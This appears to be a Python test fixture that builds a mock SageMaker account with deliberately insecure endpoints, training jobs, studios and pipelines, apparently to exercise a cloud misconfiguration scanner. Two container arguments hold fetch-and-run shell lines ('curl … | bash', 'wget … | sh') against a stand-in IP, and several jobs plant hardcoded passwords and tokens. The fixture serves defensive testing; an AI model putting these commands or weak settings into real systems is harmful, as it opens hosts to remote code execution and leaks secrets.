"""A third account: SageMaker's endpoints, jobs of every kind, studios, clusters and pipelines."""

# ruff: noqa: E501  the tables read best in rows
from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from aws_world import ACCOUNT, IMAGE, KEY_OF_PROVIDER, REGION, STRANGER, World, allow, document

if TYPE_CHECKING:
    from collections.abc import Callable

_OPEN = ("bucket-with-ai-data-public", "store-writable-by-anyone", "store-open-to-the-public")
_ROLE = f"arn:aws:iam::{ACCOUNT}:role/lab-exec"
_ALONE, _TRAFFIC, _KEY, _OUTSIDE, _SECRET = (
    "model-without-network-isolation", "training-traffic-unencrypted", "ai-data-without-own-key", "ai-workload-outside-own-network", "secret-in-model-settings",
)  # fmt: skip
_ONE = {"InstanceType": "ml.m5.xlarge", "InstanceCount": 2, "VolumeSizeInGB": 20}
_SOURCE = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://acme-lake-2/train"}}


def endpoints(w: World) -> None:
    """Endpoints: what is captured, where answers that take long go, who may ask."""
    sm = w.client("sagemaker")
    bad = w.weak("acme-tap-8", *_OPEN)
    s3 = w.bucket("acme-tap-8", block=not bad)
    if bad:
        s3.put_bucket_policy(Bucket="acme-tap-8", Policy=document(allow(["s3:GetObject", "s3:ListBucket"], ["arn:aws:s3:::acme-tap-8", "arn:aws:s3:::acme-tap-8/*"], Principal={"AWS": "*"})))  # fmt: skip
    capture = {"EnableCapture": True, "InitialSamplingPercentage": 100, "DestinationS3Uri": "s3://acme-tap-8/c", "KmsKeyId": w.key, "CaptureOptions": [{"CaptureMode": "Input"}, {"CaptureMode": "Output"}]}  # fmt: skip
    variant = {
        "VariantName": "a",
        "ModelName": "scorer",
        "InitialInstanceCount": 2,
        "InstanceType": "ml.m5.large",
        "InitialVariantWeight": 1,
    }
    for name, changed, rule in (
        ("cfg-capture-key", {"DataCaptureConfig": {n: v for n, v in capture.items() if n != "KmsKeyId"}}, _KEY),
        ("cfg-async-key", {"AsyncInferenceConfig": {"OutputConfig": {"S3OutputPath": "s3://acme-lake-2/late"}}}, _KEY),
        ("cfg-plain-disk", {"KmsKeyId": None}, _KEY),
        ("cfg-single", {"ProductionVariants": [{**variant, "InitialInstanceCount": 1}]}, "endpoint-on-one-machine"),
    ):  # fmt: skip
        w.weak(name, rule)
        given: dict[str, Any] = {"KmsKeyId": w.key, "ProductionVariants": [variant], "DataCaptureConfig": capture,
                                 "AsyncInferenceConfig": {"OutputConfig": {"S3OutputPath": "s3://acme-lake-2/late", "KmsKeyId": w.key}}, **({} if w.kept else changed)}  # fmt: skip
        sm.create_endpoint_config(EndpointConfigName=name, **{n: v for n, v in given.items() if v is not None})
    sm.create_endpoint(EndpointName="score-live", EndpointConfigName="cfg-single")
    bad = w.weak("POST /score", "ai-endpoint-without-authentication")
    api = w.client("apigateway")
    rest = api.create_rest_api(name="score-api")["id"]
    root = api.get_resources(restApiId=rest)["items"][0]["id"]
    path = api.create_resource(restApiId=rest, parentId=root, pathPart="score")["id"]
    api.put_method(restApiId=rest, resourceId=path, httpMethod="POST", authorizationType="NONE" if bad else "AWS_IAM")
    role = w.role(
        "score-api-exec",
        "apigateway",
        allow("sagemaker:InvokeEndpoint", f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:endpoint/score-live"),
    )
    api.put_integration(restApiId=rest, resourceId=path, httpMethod="POST", type="AWS", integrationHttpMethod="POST", credentials=role,
                        uri=f"arn:aws:apigateway:{REGION}:runtime.sagemaker:path//endpoints/score-live/invocations")  # fmt: skip


def training(w: World) -> None:
    """Training, and the search for its settings."""
    sm = w.client("sagemaker")
    whole: dict[str, Any] = {
        "EnableInterContainerTrafficEncryption": True, "EnableNetworkIsolation": True, "ResourceConfig": {**_ONE, "VolumeKmsKeyId": w.key},
        "OutputDataConfig": {"S3OutputPath": "s3://acme-lake-2/o", "KmsKeyId": w.key}, "VpcConfig": w.inside}  # fmt: skip
    for name, changed, rule in (
        ("grow-remote", {"AlgorithmSpecification": {"TrainingImage": f"{STRANGER}.dkr.ecr.{REGION}.amazonaws.com/train:latest", "TrainingInputMode": "File"}}, "model-parts-of-another-account"),
        ("grow-args", {"AlgorithmSpecification": {"TrainingImage": IMAGE, "TrainingInputMode": "File", "ContainerEntrypoint": ["/bin/bash", "-c"], "ContainerArguments": ["curl -sSL http://203.0.113.8/t.sh | bash && python train.py"]}}, "startup-script-attacks"),
        ("grow-json", {"HyperParameters": {"sagemaker_submit_directory": '"s3://acme-lake-2/s.tar.gz"', "wandb": json.dumps({"api_key": KEY_OF_PROVIDER})}}, _SECRET),
        ("grow-open", {"VpcConfig": None, "EnableNetworkIsolation": False}, _OUTSIDE),
        ("grow-disk", {"ResourceConfig": _ONE}, _KEY),
        ("grow-clear", {"EnableInterContainerTrafficEncryption": False}, _TRAFFIC),
    ):  # fmt: skip
        w.weak(name, rule)
        given = {
            "AlgorithmSpecification": {"TrainingImage": IMAGE, "TrainingInputMode": "File"},
            **whole,
            **({} if w.kept else changed),
        }
        sm.create_training_job(TrainingJobName=name, RoleArn=_ROLE, StoppingCondition={"MaxRuntimeInSeconds": 60}, InputDataConfig=[{"ChannelName": "train", "DataSource": _SOURCE}],
                               **{n: v for n, v in given.items() if v is not None})  # fmt: skip
    for name, changed, rule in (
        ("hunt-secret", {"StaticHyperParameters": {"hub_token": "hf_" + "ZxCvBnMaSdFgHjKlQwErTyUiOpZxCvBnMa"}}, _SECRET),
        ("hunt-alone", {"EnableNetworkIsolation": False}, _ALONE),
        ("hunt-clear", {"EnableInterContainerTrafficEncryption": False}, _TRAFFIC),
        ("hunt-disk", {"ResourceConfig": _ONE}, _KEY),
    ):  # fmt: skip
        w.weak(name, rule)
        job = {"AlgorithmSpecification": {"TrainingImage": IMAGE, "TrainingInputMode": "File"}, "RoleArn": _ROLE, "StoppingCondition": {"MaxRuntimeInSeconds": 60}, **whole,
               "InputDataConfig": [{"ChannelName": "train", "DataSource": _SOURCE}], **({} if w.kept else changed)}  # fmt: skip
        sm.create_hyper_parameter_tuning_job(HyperParameterTuningJobName=name, TrainingJobDefinition=job, HyperParameterTuningJobConfig={
            "Strategy": "Bayesian", "ResourceLimits": {"MaxNumberOfTrainingJobs": 4, "MaxParallelTrainingJobs": 2}})  # fmt: skip


def automatic(w: World) -> None:
    """AutoML."""
    sm = w.client("sagemaker")
    for name, changed, rule in (
        ("auto-clear", {"EnableInterContainerTrafficEncryption": False}, _TRAFFIC),
        ("auto-disk", {"VolumeKmsKeyId": None}, _KEY),
        ("auto-open", {"VpcConfig": None}, _OUTSIDE),
    ):
        w.weak(name, rule)
        security = {
            "EnableInterContainerTrafficEncryption": True,
            "VolumeKmsKeyId": w.key,
            "VpcConfig": w.inside,
            **({} if w.kept else changed),
        }
        sm.create_auto_ml_job_v2(
            AutoMLJobName=name, RoleArn=_ROLE, AutoMLJobInputDataConfig=[{"ChannelType": "training", "DataSource": _SOURCE}], OutputDataConfig={"S3OutputPath": "s3://acme-lake-2/a", "KmsKeyId": w.key},
            AutoMLProblemTypeConfig={"TabularJobConfig": {"TargetAttributeName": "y", "ProblemType": "Regression", "CompletionCriteria": {"MaxCandidates": 3}}}, SecurityConfig={n: v for n, v in security.items() if v is not None})  # fmt: skip


def _network(w: World) -> dict[str, Any]:
    return {"EnableNetworkIsolation": True, "EnableInterContainerTrafficEncryption": True, "VpcConfig": w.inside}


def after_training(w: World) -> None:
    """Compilation, transformation, processing."""
    sm = w.client("sagemaker")
    bad = w.weak("squeeze", _KEY)
    sm.create_compilation_job(
        CompilationJobName="squeeze", RoleArn=_ROLE, StoppingCondition={"MaxRuntimeInSeconds": 60}, InputConfig={"S3Uri": "s3://acme-lake-2/m.tar.gz", "Framework": "PYTORCH", "DataInputConfig": "{}"},
        OutputConfig={"S3OutputLocation": "s3://acme-lake-2/c", "TargetDevice": "ml_g5", **({} if bad else {"KmsKeyId": w.key})},
        VpcConfig={"SecurityGroupIds": [w.group], "Subnets": [w.subnets[0]]})  # fmt: skip
    for name, said, rule in (
        ("turn-disk", {"key": False}, _KEY),
        ("turn-secret", {"Environment": {"SNOWFLAKE_PASSWORD": "Rk7" + "bWq92xLmZ4t"}}, _SECRET),
    ):
        w.weak(name, rule)
        turned: dict[str, Any] = {"key": True, "Environment": {"LEVEL": "info"}, **({} if w.kept else said)}
        own = {"VolumeKmsKeyId": w.key} if turned["key"] else {}
        out = {"KmsKeyId": w.key} if turned["key"] else {}
        sm.create_transform_job(TransformJobName=name, ModelName="scorer", TransformInput={"DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://acme-lake-2/in"}}},
                                TransformOutput={"S3OutputPath": "s3://acme-lake-2/out", **out}, TransformResources={"InstanceType": "ml.m5.large", "InstanceCount": 1, **own}, Environment=turned["Environment"])  # fmt: skip
    network = _network(w)
    for name, arguments, rule in (
        ("mill-args", ["--db-url", "postgresql://etl:" + "Hn5Yc20pQs" + "@db.corp.internal/etl"], _SECRET),
        ("mill-shell", ["-c", "wget -qO- http://203.0.113.8/p.sh | sh"], "startup-script-attacks"),
    ):
        w.weak(name, rule)
        sm.create_processing_job(ProcessingJobName=name, RoleArn=_ROLE, NetworkConfig=network, ProcessingResources={"ClusterConfig": {**_ONE, "VolumeKmsKeyId": w.key}},
                                 AppSpecification={"ImageUri": IMAGE, "ContainerEntrypoint": ["sh"], "ContainerArguments": ["/opt/run.sh"] if w.kept else arguments})  # fmt: skip


def monitors(w: World) -> None:
    """Definitions of jobs that watch endpoints."""
    sm, network = w.client("sagemaker"), _network(w)
    output = {
        "MonitoringOutputs": [{"S3Output": {"S3Uri": "s3://acme-lake-2/q", "LocalPath": "/o"}}],
        "KmsKeyId": w.key,
    }
    near = {"EndpointInput": {"EndpointName": "score-live", "LocalPath": "/i"}}
    truth = {"GroundTruthS3Input": {"S3Uri": "s3://acme-lake-2/g"}}
    for noun, name, lacks, rule, extra, app in (
        ("data_quality", "watch-data", {"EnableInterContainerTrafficEncryption": False}, _TRAFFIC, {}, {}),
        (
            "model_quality",
            "watch-model",
            {"EnableNetworkIsolation": False},
            _ALONE,
            truth,
            {"ProblemType": "Regression"},
        ),
        (
            "model_bias",
            "watch-bias",
            {"VpcConfig": None, "EnableNetworkIsolation": False},
            _OUTSIDE,
            truth,
            {"ConfigUri": "s3://acme-lake-2/c"},
        ),
        ("model_explainability", "watch-why", {"key": None}, _KEY, {}, {"ConfigUri": "s3://acme-lake-2/c"}),
    ):
        w.weak(name, rule)
        word = "".join(part.capitalize() for part in noun.split("_"))
        watched: dict[str, Any] = {**network, "key": w.key, **({} if w.kept else lacks)}
        key = watched.pop("key")
        own = {"VolumeKmsKeyId": key} if key else {}
        getattr(sm, f"create_{noun}_job_definition")(
            JobDefinitionName=name, RoleArn=_ROLE, JobResources={"ClusterConfig": {**_ONE, **own}}, NetworkConfig={n: v for n, v in watched.items() if v is not None},
            **{f"{word}AppSpecification": {"ImageUri": IMAGE, **app}, f"{word}JobInput": {**near, **extra}, f"{word}JobOutputConfig": output})  # fmt: skip


def places(w: World) -> None:
    """Studios, and what a cluster starts with."""
    sm = w.client("sagemaker")
    for name, changed, rule in (
        ("atrium", {"AuthMode": "IAM"}, "studio-without-single-sign-on"),
        ("gallery", {"AppNetworkAccessType": "PublicInternetOnly"}, _OUTSIDE),
    ):
        w.weak(name, rule)
        given = {"AuthMode": "SSO", "AppNetworkAccessType": "VpcOnly", "KmsKeyId": w.key, **({} if w.kept else changed)}
        sm.create_domain(
            DomainName=name,
            DefaultUserSettings={"ExecutionRole": _ROLE},
            SubnetIds=[w.subnets[0]],
            VpcId=w.vpc,
            **given,
        )
    bad = w.weak("studio-people-exec", "iam-wildcard-for-ai-role")
    people = w.role("studio-people-exec", "sagemaker", allow("s3:GetObject", "arn:aws:s3:::acme-lake-2/*"))
    if bad:
        w.client("iam").attach_role_policy(
            RoleName="studio-people-exec", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
        )
    sm.create_domain(DomainName="people", AuthMode="SSO", AppNetworkAccessType="VpcOnly", KmsKeyId=w.key, DefaultUserSettings={"ExecutionRole": people}, SubnetIds=[w.subnets[0]], VpcId=w.vpc)  # fmt: skip
    bad = w.weak("sagemaker-boot-4", "ai-data-shared-with-another-account", *_OPEN)
    s3 = w.bucket("sagemaker-boot-4", block=not bad)
    if bad:
        s3.put_bucket_policy(
            Bucket="sagemaker-boot-4",
            Policy=document(
                allow("s3:*", ["arn:aws:s3:::sagemaker-boot-4", "arn:aws:s3:::sagemaker-boot-4/*"], Principal="*")
            ),
        )


def repeated(w: World) -> None:
    """A cluster for training, pipelines, experiments."""
    sm = w.client("sagemaker")
    bad = w.weak("giant", _OUTSIDE)
    sm.create_cluster(ClusterName="giant", **({} if bad else {"VpcConfig": w.inside}), InstanceGroups=[{
        "InstanceGroupName": "w", "InstanceType": "ml.p5.48xlarge", "InstanceCount": 1, "ThreadsPerCore": 1, "ExecutionRole": _ROLE, "LifeCycleConfig": {"SourceS3Uri": "s3://sagemaker-boot-4/lifecycle/", "OnCreate": "on_create.sh"}}])  # fmt: skip
    bad = w.weak("monthly", _SECRET, "secret-in-code")
    step = {"Name": "Train", "Type": "Training", "Arguments": {"HyperParameters": {"mlflow_tracking_password": "Tn4" + "vYq81sWdK6b" if bad else "x"}, "Environment": {"OPENAI_API_KEY": KEY_OF_PROVIDER} if bad else {}}}  # fmt: skip
    sm.create_pipeline(PipelineName="monthly", RoleArn=_ROLE, ClientRequestToken="t" * 32, PipelineDefinition=json.dumps({"Version": "2020-12-01", "Parameters": [], "Steps": [step]}))  # fmt: skip
    bad = w.weak("flow-exec", "iam-wildcard-for-ai-role")
    flow = w.role(
        "flow-exec",
        "sagemaker",
        allow("sagemaker:*", "*")
        if bad
        else allow("sagemaker:CreateTrainingJob", f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:training-job/w-*"),
    )
    sm.create_pipeline(
        PipelineName="weekly",
        RoleArn=flow,
        ClientRequestToken="u" * 32,
        PipelineDefinition=json.dumps({"Version": "2020-12-01", "Steps": []}),
    )
    bad = w.weak("run-17", _SECRET)
    sm.create_trial_component(
        TrialComponentName="run-17",
        DisplayName="run-17",
        Parameters={"lr": {"NumberValue": 0.1}, "hub_key": {"StringValue": KEY_OF_PROVIDER if bad else "none"}},
    )


PARTS: tuple[Callable[[World], None], ...] = (
    endpoints, training, automatic, after_training, monitors, places, repeated,
)  # fmt: skip
